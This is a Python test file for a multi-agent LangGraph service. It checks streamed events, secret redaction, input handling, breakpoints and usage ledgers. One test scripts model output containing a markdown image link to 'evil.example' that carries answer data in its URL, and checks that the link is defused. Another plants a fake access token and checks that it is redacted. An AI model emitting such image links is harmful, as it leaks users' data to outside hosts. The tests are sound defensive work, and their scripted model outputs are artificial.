"""What a run of the team tells where somebody asks for more than its own events."""

from __future__ import annotations

import json
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from redis.asyncio import Redis

from graphs import events
from graphs.keys import Keys
from guardrails.redaction import SECRET
from models.scripted import Scripted, ScriptedModel
from server.runs.asked import Asked
from server.runs.ledger import RedisRunLedgers
from server.runs.record import RunRecord
from tests.graphs.team_house import SUPPORTED, House, passage

QUESTION = "How long can I return a plan?"


def steps() -> list[Scripted]:
    return [
        Scripted(agent="coordinator", answer={"move": "research", "text": "", "tasks": []}),
        Scripted(agent="researcher", answer="Within 45 days."),
        Scripted(agent="critic", answer=SUPPORTED),
    ]


async def run(house: House, given: Any, **asked: Any) -> events.Outcome:
    record = RunRecord(run_id="r", thread_id="t", asked=Asked(input=given, **asked), token=1)
    return await house.executor(record, house.events.append)


SAID = {"messages": [{"role": "user", "content": QUESTION}]}


async def test_langgraphs_modes_come_beside_the_teams_own_events() -> None:
    with ScriptedModel(steps=steps()) as model:
        house = House(model)
        end = await run(house, SAID, stream_modes=["values", "updates", "messages-tuple"])
    assert isinstance(end, events.RunFinished)
    chunks = [event for event in house.events if isinstance(event, events.GraphChunk)]
    assert {chunk.mode for chunk in chunks} == {"values", "updates", "messages"}
    assert any(isinstance(event, events.ToolFinished) for event in house.events)
    values = [chunk.data for chunk in chunks if chunk.mode == "values"]
    assert values[-1]["messages"][-1]["content"] == end.answer
    assert values[-1]["messages"][-1]["id"] == "answer-r"
    messages = [chunk.data[0] for chunk in chunks if chunk.mode == "messages"]
    assert [message["id"] for message in messages if message["type"] == "ai"] == ["answer-r"]


async def test_what_models_write_is_told_where_messages_are_asked_for() -> None:
    with ScriptedModel(steps=steps()) as model:
        house = House(model)
        await run(house, SAID, stream_modes=["messages"])
    deltas = [event for event in house.events if isinstance(event, events.ModelDelta)]
    assert "".join(one.text for one in deltas if one.agent == "researcher") == "Within 45 days."
    assert {one.agent for one in deltas} == {"researcher"}, "a typed answer is not for reading"
    assert all(one.task_id and one.message_id for one in deltas)


async def test_no_image_is_made_of_what_a_model_writes_before_its_answer_is_looked_at() -> None:
    """A reader's browser would have fetched it by the time that the answer is disarmed."""
    told = "Wait! ![x](https://evil.example/?q=45) [1]."
    said = [*steps()[:1], Scripted(agent="researcher", answer=told), *steps()[2:]]
    with ScriptedModel(steps=said) as model:
        house = House(model)
        end = await run(house, SAID, stream_modes=["messages"])
    assert isinstance(end, events.RunFinished)
    assert "![" not in end.answer
    deltas = [event.text for event in house.events if isinstance(event, events.ModelDelta)]
    assert "".join(deltas) == told.replace("![", "! [")


async def test_a_secret_that_was_found_is_in_no_mode_and_the_answer_is_the_askers() -> None:
    key = "ghp_" + "a1B2" * 9
    said = [
        Scripted(agent="coordinator", answer={"move": "research", "text": "", "tasks": []}),
        Scripted(agent="researcher", answer=f"The deploy token is {key} [1]."),
        Scripted(agent="critic", answer=SUPPORTED),
    ]
    found = {"": [passage(f"The deploy token is {key}.", chunk_id="c")]}
    modes = ["values", "updates", "messages", "tasks", "checkpoints", "debug", "events"]
    with ScriptedModel(steps=said) as model:
        house = House(model, found=found)
        house.executor._redacted = SECRET
        end = await run(house, SAID, stream_modes=modes, temporary=True)
    assert isinstance(end, events.RunFinished)
    chunks = [event for event in house.events if isinstance(event, events.GraphChunk)]
    assert {chunk.mode for chunk in chunks} == {*modes}
    (answer,) = {
        json.dumps(message)
        for chunk in chunks
        if chunk.mode == "values"
        for message in chunk.data["messages"]
        if message["type"] == "ai"
    }
    assert key in answer
    told = [json.dumps(event.model_dump(mode="json")) for event in house.events]
    assert not any(key in one.replace(answer, "") for one in told)
    deltas = [event.text for event in house.events if isinstance(event, events.ModelDelta)]
    assert "".join(deltas) == "The deploy token is [token 1] [1]."
    # How it ended: the answer, and nothing else that has it.
    assert key in end.answer
    rest = end.model_dump(mode="json") | {"answer": ""}
    rest["values"]["messages"] = []
    assert key not in json.dumps(rest)


async def test_nobody_is_told_of_what_nobody_reads() -> None:
    with ScriptedModel(steps=steps()) as model:
        house = House(model)
        await run(house, SAID)
    told = {type(event) for event in house.events}
    assert not told & {events.GraphChunk, events.ModelDelta}


async def test_input_in_blocks_with_a_system_message_is_understood() -> None:
    given = {
        "messages": [
            {"type": "system", "content": "Answer kindly."},
            {"type": "human", "content": [{"type": "text", "text": QUESTION}], "id": "mine"},
        ]
    }
    with ScriptedModel(steps=steps()) as model:
        house = House(model)
        end = await run(house, given, temporary=True)
    assert isinstance(end, events.RunFinished)
    assert end.answer == "Within 45 days [1]."
    assert end.values["messages"][1]["id"] == "mine"
    assert end.values["messages"][-1]["content"] == end.answer


async def test_no_message_is_answered_with_a_question() -> None:
    nothing: list[Any] = [{}, {"messages": []}]
    for given in nothing:
        with ScriptedModel(steps=[]) as model:
            end = await run(House(model), given)
        assert isinstance(end, events.RunFinished)
        assert end.stop_reason == "asked_back"


async def test_nothing_to_go_on_with_and_a_message_in_no_shape_fail_in_words() -> None:
    for given, error in ((None, "EmptyInputError"), ({"messages": [{"x": 1}]}, "BadMessageError")):
        with ScriptedModel(steps=[]) as model:
            end = await run(House(model), given)
        assert isinstance(end, events.RunFailed)
        assert end.error == error


async def nodes(house: House, **asked: Any) -> list[str]:
    await run(house, SAID, stream_modes=["updates"], **asked)
    chunks = [event for event in house.events if isinstance(event, events.GraphChunk)]
    return [name for chunk in chunks for name in chunk.data if name != "__interrupt__"]


async def test_what_asks_no_model_and_only_reads_has_no_step_of_its_own() -> None:
    with ScriptedModel(steps=steps()) as model:
        taken = await nodes(House(model))
    assert taken == ["coordinate", "think", "think", "gather", "criticise"]


async def test_each_node_is_a_step_where_somebody_stops_between_them() -> None:
    with ScriptedModel(steps=steps()[:1]) as model:
        taken = await nodes(House(model), interrupt_before=["act"])
    assert taken == ["coordinate", "think", "check"]


GOES_ON: list[dict[str, Any]] = [
    {"input": None},
    {"input": {}, "command": {"update": {"draft": "Within 45 days."}}},
]


@pytest.mark.parametrize("asked", GOES_ON)
async def test_what_goes_on_behind_a_breakpoint_goes_on_with_its_spending(
    asked: dict[str, Any],
) -> None:
    with ScriptedModel(steps=steps()) as model:
        house = House(model)
        pause = await run(house, SAID, interrupt_before=["finish"])
        assert isinstance(pause, events.RunInterrupted)
        assert pause.usage.model_calls == 3
        record = RunRecord(run_id="r2", thread_id="t", asked=Asked(**asked), token=1)
        end = await house.executor(record, house.events.append)
    assert isinstance(end, events.RunFinished)
    assert end.answer.startswith("Within 45 days")
    assert end.usage.model_calls == 3


async def test_every_call_of_the_team_is_in_redis(redis: Redis, keys: Keys) -> None:
    ledgers = RedisRunLedgers(redis, keys)
    await redis.set(keys.fence("default:t"), "r:1")
    with ScriptedModel(steps=steps()) as model:
        end = await run(House(model, ledgers=ledgers), SAID)
    stored = (await ledgers.account("r")).spent
    assert isinstance(end, events.RunFinished)
    assert (stored.model_calls, stored.steps, stored.tool_calls) == (3, 3, 1)
    assert stored.input_tokens == end.usage.input_tokens
    assert stored.output_tokens == end.usage.output_tokens
    assert not [name for name in await redis.hkeys(keys.run_ledger("r")) if b"held" in name]


async def test_a_follow_up_sees_messages_as_langchain_has_them() -> None:
    saver = InMemorySaver()
    with ScriptedModel(steps=steps()) as model:
        house = House(model, saver=saver)
        await run(house, SAID)
        async with house.registry.open("team", tenant="default") as graph:
            state = await graph.aget_state({"configurable": {"thread_id": "t"}})
    kinds = [type(message) for message in state.values["messages"]]
    assert kinds == [HumanMessage, AIMessage]
